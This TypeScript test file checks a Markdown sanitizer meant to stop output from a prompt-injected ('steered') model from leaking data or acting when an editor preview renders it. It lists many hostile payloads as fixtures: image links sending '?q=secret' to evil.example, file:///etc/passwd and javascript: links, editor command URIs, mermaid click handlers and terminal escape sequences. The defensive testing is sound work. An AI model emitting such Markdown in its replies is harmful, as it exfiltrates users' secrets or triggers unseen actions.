import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { SafeMarkdown, safeMarkdown } from '../../../../src/ground/markdown/safeMarkdown';
import { projectFolder } from '../../../host/folders';
import { seededRandom } from '../../../host/seededRandom';

/** As the editor's preview renders: with HTML, with links made of addresses, and any scheme let through. */
const preview = new MarkdownIt({ html: true, linkify: true });
preview.linkify.set({ fuzzyLink: false });
preview.validateLink = () => true;

const allowedTags =
  /^<\/?(?:p|em|strong|code|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td|s|a)\b/;

/** What a rendered text would load, run or lead to that it may not; null when nothing is. */
function dangerIn(html: string): string | null {
  for (const [tag] of html.matchAll(/<[a-z!?/][^>]*>/gi)) {
    if (!allowedTags.test(tag)) return tag;
    const [, href] = /^<a\b.*?\bhref="([^"]*)"/.exec(tag) ?? [];
    if (/^<a\b/.test(tag) && (href === undefined || !mayLead(href))) return tag;
  }
  return null;
}

function mayLead(href: string): boolean {
  if (/^(?:https?:\/\/|mailto:|#|$)/i.test(href)) return true;
  return /^(?:\.\/)?[\w%@.-][\w%./@~+-]*(?:#[\w-]*)?$/.test(href) && !href.includes('..');
}

const attacks: readonly string[] = [
  '![](http://127.0.0.1/?q=secret)',
  '![alt][ref]\n\n[ref]: https://evil.example/?q=secret',
  '[![alt](https://evil.example/a.png)](https://good.example/)',
  '<img src="https://evil.example/?q=secret">',
  '<IMG\nsrc=https://evil.example/>',
  'a <svg/onload=alert(1)> b',
  '<!-- hidden -->',
  '<div>\n\n```\n</div>\n\n<img src=x>',
  '<a href="command:workbench.action.quit">Read on</a>',
  '<?php x ?> <![CDATA[x]]> <!DOCTYPE html>',
  '[read](file:///etc/passwd)',
  '[read](FILE:///etc/passwd)',
  '[read](&#x66;ile:///etc/passwd)',
  '[read](&#x6A;avascript:alert)',
  '[read](java\\script:alert)',
  '[read](<file:///a b>)',
  '[read](\nfile:///etc/passwd)',
  '[read](command:workbench.action.terminal.new)',
  '[read](vscode://some.extension/do)',
  '[read](data:text/html,x)',
  '[read](vbscript:x)',
  '[read](//evil.example/x)',
  '[read](\\\\evil\\share)',
  '[read](/\\evil.example/x)',
  '[read](../../../etc/passwd)',
  '[read](src/%2e%2e/%2e%2e/x)',
  '[read](C:/Windows/x)',
  '[read][x]\n\n[x]: <file:///etc/passwd>',
  '[read][x]\n\n[x]:\n  file:///etc/passwd "t"',
  '> [read][x]\n>\n> [x]: vscode://do',
  '[^1]\n\n[^1]: file:///etc/passwd',
  '<file:///etc/passwd> <command:x.y> <vscode://x>',
  'see file://host/share and //evil.example/share',
  '| `a | ![x](https://evil.example/) | b` |\n| --- | --- | --- |',
  '`a | ![x](https://evil.example/) | b`\n--- | --- | ---',
  '- `a\n- b\n- ` ![x](https://evil.example/) `c`',
  '[a](`) ![x](https://evil.example/) `',
  '> ```\n> code\n![x](https://evil.example/)',
  '- ```\n  code\n![x](https://evil.example/)',
  '- para\nlazy\n  ```\n  code\ny ![x](https://evil.example/)',
  '    ```\n![x](https://evil.example/)\n    ```',
  '```\n``` x\n```\n![x](https://evil.example/)',
  '$$\n```\n$$\n\n![x](https://evil.example/)',
  '``` | x\n--- | ---\n\n<img src=x>\n```',
  '---\n```\n---\n![x](https://evil.example/)',
  '`unclosed\n`![x](https://evil.example/)`',
  'text\r![x](https://evil.example/)\r',
];

describe('Markdown of a steered model', () => {
  it.each(attacks)('loads nothing and leads nowhere unseen: %j', (attack) => {
    const safe = safeMarkdown(attack);
    expect(dangerIn(preview.render(safe))).toBeNull();
    // The same again in a text that goes on.
    const later = safeMarkdown(`# Title\n\n- item\n\n${attack}\n\nEnd.\n`);
    expect(dangerIn(preview.render(later))).toBeNull();
  });

  it('would do so without that', () => {
    const acting = attacks.filter((attack) => dangerIn(preview.render(attack)) !== null);
    // The others are for readers other than this one.
    expect(acting.length).toBeGreaterThan(attacks.length * 0.75);
  });

  it('shows what was written', () => {
    expect(safeMarkdown('![a cat](https://evil.example/?q=secret)')).toBe(
      '!\\[a cat]\\(https://evil.example/?q=secret)',
    );
    expect(preview.renderInline(safeMarkdown('<b>x</b> ![c](data:x)'))).toBe(
      '&lt;b&gt;x&lt;/b&gt; ![c](data:x)',
    );
    expect(safeMarkdown('[x](command:a.b)')).toBe('[x]\\(command:a.b)');
  });

  it('keeps web links whose text hides nothing, and shows the address of others', () => {
    const kept = [
      '[the docs](https://example.com/docs)',
      '[example.com/docs](https://example.com/docs)',
      '<https://example.com/?a=b>',
      'https://example.com/?a=b',
      '[x](#limits)',
      '[gauge](src/gauge.py)',
      '[the docs][d]\n\n[d]: https://example.com/docs "Docs"',
    ];
    for (const text of kept) expect(safeMarkdown(text)).toBe(text);
    const shown = [
      '[the docs](https://example.com/?q=secret)',
      '[https://good.example](https://evil.example/)',
      '[good.com](https://evil.example/)',
      '[src/gauge.py:5](https://evil.example/)',
      '[the docs](https://user@evil.example/)',
      `[the docs](https://evil.example/${'a'.repeat(300)})`,
    ];
    for (const text of shown) expect(safeMarkdown(text)).toBe(text.replace('](', ']\\('));
  });

  it('draws no diagram that loads, links or sets something', () => {
    const plain = '```mermaid\ngraph TD\n  A["one<br>two"] --> B\n```\n';
    expect(safeMarkdown(plain)).toBe(plain);
    const acting = [
      'graph TD\n  A-->B\n  click A "https://evil.example/?q"',
      'graph TD\n  A-->B\n  click A href "javascript:x"',
      '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A-->B',
      'graph TD\n  A["<img src=\'https://evil.example/\'>"]',
      'graph TD\n  A@{ img: "https:#47;#47;evil.example" }',
      'graph TD\n  classDef x fill:url(https://evil.example/)',
      '---\nconfig:\n  themeCSS: x\n---\ngraph TD\n  A-->B',
    ];
    for (const text of acting) {
      expect(safeMarkdown(`\`\`\`mermaid\n${text}\n\`\`\`\n`)).toBe(
        `\`\`\`text\n${text}\n\`\`\`\n`,
      );
    }
    expect(safeMarkdown('::: mermaid\nclick A "x"\n:::\n')).toMatch(/^\\:::/);
    expect(safeMarkdown('$$\n\\href{javascript:x}{y}\n$$')).toContain('\\\\href');
  });

  it('has no characters that act on a terminal or hide text', () => {
    const text =
      'a\u001b]8;;https://evil.example\u0007b\u001b]8;;\u0007 \u202ec\u200bd\u{e0041} `x\u0007`\r\n';
    expect(safeMarkdown(text)).toBe('ab cd `x`\r\n');
    expect(safeMarkdown('👩‍💻 می‌خواهم')).toBe('👩‍💻 می‌خواهم');
  });

  it('stays as it is where it is ordinary', async () => {
    const texts = [
      '`<div>` and ``a ` <b>`` and `![x](y)` stay.\n',
      '```html\n<img src="https://x.example/">\n![x](y)\n```\n',
      '- step:\n  ```ts\n  const a: Map<string, number> = b;\n  ```\n- next\n',
      '1. one\n\n   ~~~~\n   <b>\n   ~~~\n   ~~~~\n2. two `Vec<u8>`\n',
      '> ```\n> <b>\n> ```\n\nif a < b and b > c, x[0]: 1 & 2\n',
      '| a | b |\n| --- | --- |\n| `x` | 2 |\n',
      'It costs $5 and `f<T>()` $6.\n',
      'A claim.[^1]\n\n[^1]: See `src/gauge.py:5` for it.\n',
      '    indented code\n\n***\n\nTitle\n===\n',
      'C:\\dir and \\\\host\\share in words\n',
    ];
    for (const text of texts) expect(safeMarkdown(text)).toBe(text);
    const own = await readFile(join(projectFolder, 'CONTRIBUTING.md'), 'utf8');
    expect(safeMarkdown(own)).toBe(own);
  });

  it('is the same however it is cut, and when it is done again; nothing random gets through', () => {
    const random = seededRandom(11);
    const parts = [
      ...attacks.filter((attack) => attack.length < 60),
      ...['`', '``', '```', '~~~', '```mermaid', '\n', '\n\n', '\r\n', '> ', '- ', '2. ', '    '],
      ...[' | ', '|--|--|', '$', '$$', '\\', '[', ']', '(', ')', '!', '<', '>', '](', ']:', 'word'],
      ...['http://a.example/b', 'www.a.example', ' ', '\t', '"', '&#33;', '===', '***'],
    ];
    for (let round = 0; round < 1500; round += 1) {
      const pick = () => parts[Math.floor(random() * parts.length)] ?? '';
      const text = Array.from({ length: 1 + Math.floor(random() * 12) }, pick).join('');
      const safe = safeMarkdown(text);
      const seen = JSON.stringify(text);
      expect(dangerIn(preview.render(safe)), seen).toBeNull();
      expect(safeMarkdown(safe), seen).toBe(safe);
      const stream = new SafeMarkdown();
      let pieces = '';
      for (let at = 0; at < text.length; ) {
        const size = 1 + Math.floor(random() * 6);
        pieces += stream.push(text.slice(at, at + size));
        at += size;
      }
      expect(pieces + stream.flush(), seen).toBe(safe);
    }
  });
});
